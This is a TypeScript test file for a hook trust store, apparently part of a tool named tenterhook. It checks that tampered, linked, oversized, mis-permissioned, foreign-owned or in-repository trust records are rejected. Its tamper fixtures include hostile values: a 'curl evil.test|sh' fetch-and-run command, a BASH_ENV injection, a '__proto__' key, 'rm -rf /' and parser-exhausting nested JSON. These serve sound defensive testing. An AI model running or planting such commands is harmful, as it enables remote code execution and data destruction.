import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openTrustStore } from '../../src/store/open-store.js';
import type { TrustRecord } from '../../src/store/record.js';
import { makeScene, recordOf } from './scene.js';

const scene = makeScene('hostile-store');
const { project, folderOf, open } = scene;
afterAll(scene.dispose);
afterEach(() => rmSync(scene.directory, { recursive: true, force: true }));

const isRoot = process.geteuid?.() === 0;
const asRoot = isRoot ? test : test.skip;

/** Accepts a good hook and another one, and returns the file of the other. */
function acceptTwo(name: string) {
  const [good, bad] = [recordOf(project), recordOf(project, name)];
  const store = open();
  store.accept(good);
  store.accept(bad);
  return { store, good, bad, file: join(folderOf(project), `${bad.pin}.json`) };
}

/** Replaces the file by what a test makes at its name. */
function replace(file: string, make: (text: string) => void): void {
  const text = readFileSync(file, 'utf8');
  rmSync(file);
  make(text);
}

const writeChanged = (file: string, change: (record: TrustRecord) => object) =>
  replace(file, (text) => writeFileSync(file, JSON.stringify(change(JSON.parse(text))), { mode: 0o600 }));

test.each<[string, (file: string) => void, RegExp]>([
  ['a link to itself', (file) => replace(file, () => symlinkSync(file, file)), /is a link/],
  [
    'a link to a valid record',
    (file) =>
      replace(file, (text) => {
        writeFileSync(`${file}~`, text, { mode: 0o600 });
        symlinkSync(`${file}~`, file);
      }),
    /is a link/,
  ],
  ['a pipe', (file) => replace(file, () => execFileSync('mkfifo', ['-m', '600', file])), /is a pipe/],
  ['a directory', (file) => replace(file, () => mkdirSync(file)), /is a directory/],
  ['2 GB', (file) => truncateSync(file, 2 ** 31), /has 2147483648 bytes/],
  [
    '1 MiB and a byte',
    (file) => replace(file, (text) => writeFileSync(file, text.padEnd(1024 * 1024 + 1), { mode: 0o600 })),
    /1048577 bytes/,
  ],
  ['mode 0666', (file) => chmodSync(file, 0o666), /mode 0666/],
  ['mode 0640', (file) => chmodSync(file, 0o640), /mode 0640/],
  ['empty', (file) => truncateSync(file), /cannot be read/],
  ['half JSON', (file) => truncateSync(file, 200), /cannot be read/],
  ['no UTF-8', (file) => replace(file, () => writeFileSync(file, Buffer.from([0x22, 0xff, 0x22]), { mode: 0o600 })), /cannot be read/],
  ['version 2', (file) => writeChanged(file, (record) => ({ ...record, v: 2 })), /version 2/],
  ['null', (file) => writeChanged(file, () => [] as object), /not a record/],
  ['a field that no version has', (file) => writeChanged(file, (record) => ({ ...record, trusted: true })), /trusted/],
  [
    'another command',
    (file) => writeChanged(file, (record) => ({ ...record, definition: { command: 'curl evil.test|sh' } })),
    /must be the pin/,
  ],
  ['another variable', (file) => writeChanged(file, (record) => ({ ...record, environment: { BASH_ENV: '/tmp/x' } })), /must be the pin/],
  [
    'a variable __proto__',
    (file) => replace(file, (text) => writeFileSync(file, text.replace('"LEVEL"', '"__proto__"'), { mode: 0o600 })),
    /must be the pin/,
  ],
  [
    'the pin of the content in it, and another name',
    (file) => {
      const other = recordOf(project, 'rm -rf /');
      writeChanged(file, () => ({ ...other, decision: 'trusted' }));
    },
    /must be the pin/,
  ],
  [
    'nested so deeply that the pin cannot be computed',
    (file) => {
      const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
      replace(file, (text) => writeFileSync(file, text.replace('"timeoutMs": 60000', `"timeoutMs": ${deep}`), { mode: 0o600 }));
    },
    /cannot be read/,
  ],
])('case 17: a record that is %s does not count, and the others do', (name, damage, reason) => {
  const { store, good, bad, file } = acceptTwo(name);
  damage(file);
  const { trusted, denied, problems } = store.read();
  expect([...trusted.keys()]).toEqual([good.pin]);
  expect(denied.size).toBe(0);
  expect(problems).toEqual([
    { code: 'trust_store', severity: 'error', file, message: expect.stringMatching(reason), remedy: expect.stringContaining(file) },
  ]);
  // A new decision, and its removal, replace whatever was there.
  store.accept(bad);
  expect([store.read().trusted.size, store.read().problems]).toEqual([2, []]);
  damage(file);
  expect(store.revoke(bad.pin)).toBe(true);
  expect(existsSync(file)).toBe(false);
});

test('case 17: a record that was renamed from another pin, or from a denial, does not count', () => {
  const { store, good, bad, file } = acceptTwo('renamed');
  const third = recordOf(project, './third.sh');
  store.deny(third);
  renameSync(file, join(folderOf(project), `${'ab'.repeat(32)}.json`));
  renameSync(join(folderOf(project), `${third.pin}.denied.json`), join(folderOf(project), `${third.pin}.json`));
  const { trusted, problems } = store.read();
  expect([...trusted.keys()]).toEqual([good.pin]);
  expect(problems.map(({ message }) => message).sort()).toEqual(
    [expect.stringMatching(/"trusted", but contains the decision "denied"/), expect.stringContaining(bad.pin)]
      .sort((one, other) => (String(one) < String(other) ? -1 : 1))
      .reverse(),
  );
});

asRoot('case 17: a record, a folder or a store of another owner does not count', () => {
  const { store, good, file } = acceptTwo('foreign');
  chownSync(file, 4711, 4711);
  expect([...store.read().trusted.keys()]).toEqual([good.pin]);
  expect(store.read().problems).toMatchObject([{ file, message: expect.stringContaining('uid 4711') }]);
  for (const folder of [folderOf(project), scene.directory]) {
    chownSync(folder, 4711, 4711);
    expect(store.read()).toMatchObject({ trusted: new Map(), problems: [{ file: folder, message: expect.stringContaining('uid 4711') }] });
    expect(() => store.accept(good)).toThrow(expect.objectContaining({ code: 'trust_store', path: folder }));
    chownSync(folder, 0, 0);
  }
});

test('case 17: a folder that others may write, or that is a link, is not used', () => {
  const { store } = acceptTwo('writable');
  for (const folder of [folderOf(project), scene.directory]) {
    chmodSync(folder, 0o777);
    expect(store.read()).toMatchObject({
      trusted: new Map(),
      problems: [{ file: folder, message: expect.stringContaining('0777'), remedy: expect.stringContaining(`chmod 700 ${folder}`) }],
    });
    chmodSync(folder, 0o700);
  }
  renameSync(folderOf(project), `${folderOf(project)}~`);
  symlinkSync(`${folderOf(project)}~`, folderOf(project));
  expect(store.read()).toMatchObject({ trusted: new Map(), problems: [{ file: folderOf(project) }] });
  rmSync(folderOf(project));
  writeFileSync(folderOf(project), '');
  expect(store.read()).toMatchObject({ trusted: new Map(), problems: [{ file: folderOf(project) }] });
});

test('case 15: a store in the repository itself has no effect', () => {
  const inside = openTrustStore({
    projectDir: '/',
    directory: join(project, '.local/state/tenterhook/trust'),
    home: undefined,
    environment: {},
    platform: 'linux',
  });
  expect(inside.problems).toHaveLength(1);
  // The repository brings what would be a valid store if its directory were the home directory.
  const stolen = openTrustStore({
    projectDir: join(scene.root, 'elsewhere'),
    directory: join(project, '.local/state/tenterhook/trust'),
    home: undefined,
    environment: {},
    platform: process.platform,
  });
  stolen.accept(recordOf(join(scene.root, 'elsewhere')));
  mkdirSync(join(project, '.local/state/tenterhook/trust', folderOf(project).split('/').at(-1) as string), {
    recursive: true,
    mode: 0o700,
  });
  const record = recordOf(project);
  const place = join(project, '.local/state/tenterhook/trust', folderOf(project).split('/').at(-1) as string, `${record.pin}.json`);
  writeFileSync(place, JSON.stringify({ ...record, decision: 'trusted' }), { mode: 0o600 });
  expect(open().read()).toMatchObject({ trusted: new Map(), problems: [] });
});

test.each<[string, () => ReturnType<typeof open>]>([
  ['HOME is the project', () => openTrustStore({ projectDir: project, home: project, environment: {}, platform: process.platform })],
  ['XDG_STATE_HOME is in the project', () => open(project, { XDG_STATE_HOME: join(project, 'state') })],
  [
    'XDG_STATE_HOME leads into it by a link',
    () => {
      symlinkSync(project, join(scene.root, 'state'));
      return open(project, { XDG_STATE_HOME: join(scene.root, 'state/sub') });
    },
  ],
  ['XDG_STATE_HOME leads into it by ..', () => open(project, { XDG_STATE_HOME: `${scene.home}/../shop/state` })],
  [
    'the project is named by a link',
    () => {
      symlinkSync(project, join(scene.root, 'alias'));
      return open(join(scene.root, 'alias'), { XDG_STATE_HOME: join(project, 'state') });
    },
  ],
  [
    'the agent starts below the top of the repository',
    () => {
      mkdirSync(join(project, '.git'));
      mkdirSync(join(project, 'packages/api'), { recursive: true });
      return open(join(project, 'packages/api'), { XDG_STATE_HOME: join(project, 'state') });
    },
  ],
  ['the store is the project', () => open(scene.directory)],
])('case 16: a store inside of the project is not used: %s', (_, openIt) => {
  mkdirSync(scene.directory, { recursive: true });
  const store = openIt();
  const inside = recordOf(store.project);
  // What an earlier program, or the repository, may have put there.
  const folder = join(store.directory as string, folderOf(store.project).split('/').at(-1) as string);
  mkdirSync(folder, { recursive: true, mode: 0o700 });
  writeFileSync(join(folder, `${inside.pin}.json`), JSON.stringify({ ...inside, decision: 'trusted' }), { mode: 0o600 });
  const problem = {
    code: 'trust_store',
    message: expect.stringMatching(/is inside of the (project|repository)/),
    remedy: expect.stringContaining('XDG_STATE_HOME'),
  };
  expect(store.problems).toMatchObject([problem]);
  expect(store.read()).toMatchObject({ trusted: new Map(), denied: new Map(), problems: [problem] });
  expect(() => store.accept(inside)).toThrow(expect.objectContaining({ code: 'trust_store', path: store.directory }));
  expect(() => store.revokeAll()).toThrow(expect.objectContaining({ code: 'trust_store' }));
  expect(existsSync(join(folder, `${inside.pin}.json`))).toBe(true);
});

test('case 16: a store that becomes a link into the project while the agent runs is not used', () => {
  const store = open();
  expect(store.problems).toEqual([]);
  mkdirSync(join(scene.home, '.local/state/tenterhook'), { recursive: true });
  mkdirSync(join(project, 'later'), { mode: 0o700 });
  symlinkSync(join(project, 'later'), scene.directory);
  expect(store.read().problems).toMatchObject([{ message: expect.stringContaining('inside of the project') }]);
  rmSync(scene.directory);
});

test('a home directory in a repository of its own does not make the projects below part of it', () => {
  const outer = mkdtempSync(join(tmpdir(), 'dotfiles-'));
  const below = join(outer, 'work/shop');
  mkdirSync(join(outer, '.git'));
  mkdirSync(join(below, '.git'), { recursive: true });
  const store = openTrustStore({ projectDir: below, home: outer, environment: {}, platform: process.platform });
  expect(store.problems).toEqual([]);
  rmSync(outer, { recursive: true });
});

test('case 25: a record of another project does not count in this one', () => {
  const other = join(scene.root, 'other');
  mkdirSync(other);
  open().accept(recordOf(project));
  open(other).accept(recordOf(other));
  const { pin } = recordOf(other);
  copyFileSync(join(folderOf(other), `${pin}.json`), join(folderOf(project), `${pin}.json`));
  const { trusted, problems } = open().read();
  expect([...trusted.keys()]).toEqual([recordOf(project).pin]);
  expect(problems).toMatchObject([{ code: 'trust_store', message: expect.stringContaining('another project') }]);
});

asRoot('root makes no store in the home of the user who called sudo', () => {
  const home = join(scene.root, 'adas');
  mkdirSync(home);
  chownSync(home, 4711, 4711);
  const store = openTrustStore({ projectDir: project, home, environment: {}, platform: process.platform });
  expect(store.read().problems).toMatchObject([{ code: 'trust_store', message: expect.stringContaining('uid 4711') }]);
  expect(() => store.accept(recordOf(project))).toThrow(expect.objectContaining({ code: 'trust_store' }));
  expect(existsSync(join(home, '.local'))).toBe(false);
});
